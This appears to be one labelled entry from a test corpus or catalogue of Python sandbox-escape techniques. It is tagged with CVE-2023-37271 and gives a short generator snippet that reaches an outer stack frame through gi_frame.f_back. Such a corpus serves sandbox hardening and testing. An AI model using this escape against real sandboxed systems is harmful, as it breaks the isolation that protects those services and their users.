# class: lineage
# mechanism: CVE-2023-37271
# how: CVE-2023-37271: frames of generators
# reaches: frame
def g():
    yield gen.gi_frame.f_back.f_back
gen = g()
next(gen)
